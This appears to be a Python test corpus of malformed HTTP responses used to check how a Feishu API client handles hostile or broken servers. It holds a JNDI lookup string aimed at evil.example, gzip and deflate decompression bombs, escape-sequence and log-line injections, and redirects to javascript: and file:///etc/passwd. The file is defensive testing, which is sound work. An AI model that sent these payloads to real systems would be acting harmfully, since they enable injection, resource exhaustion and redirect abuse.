"""B14: bodies and statuses that no Feishu should answer with."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Iterator

from tests.corpus.forms import BAD, CUT, ECHO, ERROR, LIMITED, NO_HTTP, OK, Form, answer
from tests.corpus.json_broken import broken

_CODES = [
    *(
        b'"0"',
        b'""',
        b"null",
        b"true",
        b"false",
        b"1.5",
        b"0.0",
        b"-0.0",
        b"1e2",
        b"[]",
        b"[0]",
        b"{}",
    ),
    *(b"18446744073709551616", b"-9223372036854775809", b"9" * 400, b'"success"'),
]
_FAILURES = [b"2147483648", b"18446744073709551615", b"-9223372036854775808", b"424242424242"]
_ENVELOPES = {
    "no msg": b'{"code":0}',
    "msg of another type": b'{"code":0,"msg":[1]}',
    "code twice, the last good": b'{"code":1,"code":0,"data":{"echo":"MARK"}}',
    "blanks around": b" \r\n" + ECHO + b"\n\n",
    "900 levels": b'{"code":0,"data":' + b"[" * 900 + b"]" * 900 + b"}",
    "a megabyte": b'{"code":0,"data":"' + b"x" * 1_000_000 + b'"}',
    "control characters": rb'{"code":0,"msg":"\u001b[31m\u0000\r\n"}',
    "10,000 names": b'{"code":0,' + b",".join(b'"k%d":%d' % (n, n) for n in range(10_000)) + b"}",
}
_SAID = {
    "ANSI": rb"\u001b[2J",
    "a line": rb"x\r\n{\"event\":\"forged\"}",
    "a megabyte": b"x" * 1_000_000,
    "a NUL": rb"\u0000",
    "a token's look": b"t-" + b"0" * 40,
    "formats": b"%s%n{0}${jndi:ldap://evil.example}",
}
_PLAIN = {
    "HTML": (b"text/html", b"<html>MARK</html>"),
    "text": (b"text/plain", b"MARK"),
    "nothing": (b"text/plain", b""),
    "bytes": (b"application/octet-stream", bytes(range(256))),
    "no type": (b"", ECHO),
    "an empty type": (b" ", ECHO),
    "a broken type": (b"\x80\xff;;;=", b"x"),
    "a type of 4 KiB": (b"text/" + b"x" * 4096, b"x"),
    "a list": (b"application/json", b"[]"),
    "a number": (b"application/json", b"0"),
    "a string": (b"application/json", b'"code"'),
    "null": (b"application/json", b"null"),
    "an object": (b"application/json", b'{"error":"x"}'),
    "upper case": (b"APPLICATION/JSON", ECHO),
    "text/json": (b"text/json", ECHO),
    "a suffix": (b"application/problem+json", ECHO),
    "an unknown charset": (b"application/json; charset=klingon", ECHO),
}
_NO_JSON = {
    "nothing": b"",
    "a blank": b" ",
    "HTML": b"<html>502 Bad Gateway</html>",
    "a byte order mark": b"\xef\xbb\xbf" + ECHO,
    "UTF-16": ECHO.decode().encode("utf-16"),
    "UTF-32": ECHO.decode().encode("utf-32"),
    "Latin-1": b'{"code":0,"msg":"caf\xe9"}',
    "GBK": '{"code":0,"msg":"你好"}'.encode("gbk"),
    "NaN": b'{"code":0,"data":NaN}',
    "Infinity": b'{"code":0,"data":-Infinity}',
    "a lone surrogate": rb'{"code":0,"msg":"\ud800"}',
    "100,000 levels": b'{"code":0,"data":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "two answers": ECHO + ECHO,
    "JSONP": b"callback(" + ECHO + b")",
    "a guard": b")]}'\n" + ECHO,
    "cut short": ECHO[:-2],
    "lines": b'data: {"code":0}\n\n',
    "a comma too many": b'{"code":0,}',
}
_ANSWERED = {
    b"201 Created": OK,
    b"202 Accepted": OK,
    b"203 x": OK,
    b"206 x": OK,
    b"207 x": OK,
    b"226 x": OK,
}
_REFUSED = [b"400", b"401", b"403", b"404", b"405", b"413", b"414", b"415"]
_FAILED = [b"402", b"406", b"408", b"409", b"410", b"418", b"422", b"451", b"500", b"501", b"502"]
_FAILED += [b"503", b"504", b"505", b"511", b"520", b"599"]
_MOVED = [b"300", b"301", b"302", b"303", b"304", b"305", b"306", b"307", b"308", b"399"]
_LOCATIONS = {
    "elsewhere": b"EVIL/open-apis/x",
    "another host": b"//evil.example/x",
    "a relative path": b"../x",
    "itself": b"/open-apis/sim/MARK",
    "a script": b"javascript:alert(1)",
    "a file": b"file:///etc/passwd",
    "nothing": b"",
}
_PACKED = gzip.compress(b'{"code":0}')
_ZEROS = b'{"code":0,"data":"' + b"0" * 20_000_000 + b'"}'
_CODED = {
    "gzip": (b"gzip", _PACKED, OK),
    "deflate": (b"deflate", zlib.compress(b'{"code":0}'), OK),
    "identity": (b"identity", ECHO, OK),
    "gzip that is none": (b"gzip", ECHO, BAD),
    "deflate that is none": (b"deflate", ECHO, BAD),
    "gzip of another sum": (b"gzip", _PACKED[:-8] + b"\0" * 8, NO_HTTP | OK),
    "gzip broken off": (b"gzip", _PACKED[:-12], NO_HTTP),
    "gzip of nothing": (b"gzip", gzip.compress(b""), BAD),
    "gzip bomb": (b"gzip", gzip.compress(_ZEROS), BAD),
    "deflate bomb": (b"deflate", zlib.compress(_ZEROS), BAD),
    "gzip bomb in gzip": (b"gzip, gzip", gzip.compress(gzip.compress(_ZEROS)), NO_HTTP),
    "gzip in gzip, announced once": (b"gzip", gzip.compress(_PACKED), BAD),
    "unknown": (b"x-unknown", ECHO, NO_HTTP | OK),
    "brotli that is none": (b"br", ECHO, NO_HTTP | OK),
    "zstd that is none": (b"zstd", ECHO, NO_HTTP | OK),
}
_RESETS = [
    b"",
    b"abc",
    b"-1",
    b"0",
    b"NaN",
    b"Infinity",
    b"1e9",
    b"0x10",
    b"1,5",
    b"9" * 400,
    b"1 2",
    b"\xff",
]


def forms() -> Iterator[Form]:
    """What is sent as HTTP, whatever it says."""
    for place, body in enumerate(broken()[::6]):
        yield Form(f"no JSON {place} {body[:12]!r}", answer(body))
    for name, body in _NO_JSON.items():
        yield Form(f"no JSON: {name}", answer(body))
    yield from _numbers()
    for name, body in _ENVELOPES.items():
        yield Form(f"envelope: {name}", answer(body), OK)
    for name, said in _SAID.items():
        yield Form(f"msg of {name}", answer(b'{"code":424242,"msg":"%s"}' % said), ERROR)
    for name, (type_, body) in _PLAIN.items():
        yield Form(f"no envelope: {name}", answer(body, type_=type_), OK)
    for name, (coding, body, ends) in _CODED.items():
        more = b"Content-Encoding: %s\r\n" % coding
        yield Form(f"coding: {name}", answer(body, more=more), ends)
    yield from _statuses()
    for reset in _RESETS:
        line = b"x-ogw-ratelimit-reset: %s\r\n" % reset
        data = answer(b"", status=b"429 Too Many", type_=b"text/plain", more=line)
        yield Form(f"reset {reset[:12]!r}", data, OK | LIMITED, limits=True)


def _numbers() -> Iterator[Form]:
    for code in _CODES:
        yield Form(f"code {code[:24]!r}", answer(b'{"code":%s,"msg":"x"}' % code))
    for code in _FAILURES:
        yield Form(f"code {code!r}", answer(b'{"code":%s,"msg":"x"}' % code), ERROR)
    for beyond in (b"1e400", b"9" * 5_000, b"-1e-400"):
        data = answer(b'{"code":0,"data":%s}' % beyond)
        yield Form(f"number beyond any double {beyond[:9]!r}", data, OK | BAD)


def _statuses() -> Iterator[Form]:
    for status, ends in _ANSWERED.items():
        yield Form(f"status {status.decode()}", answer(status=status), ends)
    yield Form("status 204", answer(b"", status=b"204 No Content", type_=b"", length=b""), OK)
    html = b"<html>MARK</html>"
    for status in _REFUSED:
        data = answer(html, status=status + b" x", type_=b"text/html")
        yield Form(f"status {status.decode()} in HTML", data, ERROR)
    for status in _FAILED:
        data = answer(html, status=status + b" x", type_=b"text/html")
        yield Form(f"status {status.decode()} in HTML", data, CUT)
    for status in (b"500", b"503"):
        yield Form(f"status {status.decode()} of success", answer(status=status + b" x"), OK)
    for status in _MOVED:
        line = b"Location: EVIL/x\r\n"
        length = b"" if status == b"304" else b"Content-Length: LENGTH\r\n"
        data = answer(b"", status=status + b" x", more=line, length=length)
        yield Form(f"status {status.decode()}", data)
    for status in (b"301", b"302", b"307", b"308"):
        for name, location in _LOCATIONS.items():
            line = b"Location: %s\r\n" % location
            yield Form(f"{status.decode()} to {name}", answer(status=status + b" x", more=line))
